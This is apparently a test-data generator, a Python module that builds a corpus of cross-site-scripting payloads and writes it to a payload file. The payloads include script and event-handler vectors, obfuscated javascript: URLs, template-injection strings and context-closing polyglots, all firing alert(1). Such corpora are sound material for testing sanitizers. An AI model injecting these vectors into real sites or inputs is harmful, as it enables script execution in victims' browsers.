"""Script-injection strings, composed here rather than copied: every element that runs script or loads
something, every common event handler, script URLs in their encodings, and strings that close
whatever context they land in (attribute, comment, style, script, textarea, title) before starting one.
"""

from __future__ import annotations

from tests.data.generate.common import Files

__all__ = ["vectors", "write_all"]

PATH = "payloads/xss/generated-xss.txt"
ALERT = "alert(1)"
CLOSERS = ('">', "'>", "-->", "</title>", "</style>", "</textarea>", "</script>", "]]>", "*/", '"/>')
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    " javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
            "onpointerenter", "onbegin", "onstart")  # fmt: skip


def vectors() -> list[str]:
    found = [
        f"<script>{ALERT}</script>",
        f"<ScRiPt>{ALERT}</sCrIpT>",
        "<script src=//example.invalid/x.js></script>",
        f"<script/x>{ALERT}</script>",
        f"<<script>{ALERT};//<</script>",
        f"<img src=x onerror={ALERT}>",
        f'<img src="x" onerror="{ALERT}">',
        f"<img/src/onerror={ALERT}>",
        f"<svg onload={ALERT}>",
        f"<svg/onload={ALERT}//",
        f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
        f"<svg><set onbegin={ALERT} attributeName=x to=1>",
        f"<svg><a xlink:href=javascript:{ALERT}><text x=0 y=20>tap</text></a></svg>",
        f"<svg><use href=data:image/svg+xml,&lt;svg id=x onload={ALERT}&gt;#x>",
        f"<math><mtext><img src=x onerror={ALERT}></mtext></math>",
        f"<body onload={ALERT}>",
        f"<iframe src=javascript:{ALERT}></iframe>",
        f'<iframe srcdoc="&lt;script&gt;{ALERT}&lt;/script&gt;"></iframe>',
        f"<frameset onload={ALERT}>",
        f"<object data=javascript:{ALERT}></object>",
        f'<embed src="javascript:{ALERT}">',
        f"<video><source onerror={ALERT}></video>",
        f"<audio src=x onerror={ALERT}>",
        f"<details open ontoggle={ALERT}>",
        f"<marquee onstart={ALERT}>moving</marquee>",
        f"<input autofocus onfocus={ALERT}>",
        f"<textarea autofocus onfocus={ALERT}>",
        f"<select autofocus onfocus={ALERT}></select>",
        f"<button formaction=javascript:{ALERT}>go</button>",
        f"<form><button formaction=javascript:{ALERT}>go</button></form>",
        f"<form action=javascript:{ALERT}><input type=submit></form>",
        f"<isindex type=image src=1 onerror={ALERT}>",
        f"<isindex formaction=javascript:{ALERT} type=submit>",
        f"<a href=javascript:{ALERT}>link</a>",
        f'<a href="#" onclick="{ALERT}">link</a>',
        "<base href=//example.invalid/>",
        "<link rel=stylesheet href=//example.invalid/x.css>",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
        f"<style>@import 'javascript:{ALERT}';</style>",
        f'<div style="background:url(javascript:{ALERT})">',
        f"<div style=animation-name:x onanimationstart={ALERT}>",
        f"<p contenteditable autofocus onfocus={ALERT}>edit me",
        f"<xss onpointerenter={ALERT}>hover</xss>",
        f"<xss id=x tabindex=1 onfocus={ALERT}></xss>",
        f"<plaintext onmouseover={ALERT}>",
        f"<template><img src=x onerror={ALERT}></template>",
        f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">',
        f'<!--<img src="--><img src=x onerror={ALERT}//">',
        f"<![CDATA[<script>{ALERT}</script>]]>",
        f"{{{{constructor.constructor('{ALERT}')()}}}}",
        f"${{{ALERT}}}",
        f"\"';{ALERT};//",
        f"';{ALERT}//",
        f'\\";{ALERT};//',
        f"</script><script>{ALERT}</script>",
        f"&lt;script&gt;{ALERT}&lt;/script&gt;",
        f"%3Cscript%3E{ALERT}%3C%2Fscript%3E",
        f"\\u003cscript\\u003e{ALERT}\\u003c/script\\u003e",
        f"＜script＞{ALERT}＜/script＞",
    ]
    found += [f'<a href="{url}">link</a>' for url in URLS]
    found += [f"<img src=x {handler}={ALERT}>" for handler in HANDLERS]
    found += [f'<div {handler.upper()}="{ALERT}" tabindex=0>' for handler in HANDLERS]
    # Polyglots: close every context, then start an element with a handler.
    for number, closer in enumerate(CLOSERS):
        rest = "".join(CLOSERS[number + 1 :] + CLOSERS[:number])
        found.append(f"{closer}{rest}<svg/onload={ALERT}>")
        found.append(f"javascript:/*{closer}*/{ALERT}//{rest}<img src=x onerror={ALERT}>")
    return list(dict.fromkeys(found))


def write_all(files: Files) -> None:
    files.write(PATH, "\n".join(vectors()) + "\n")
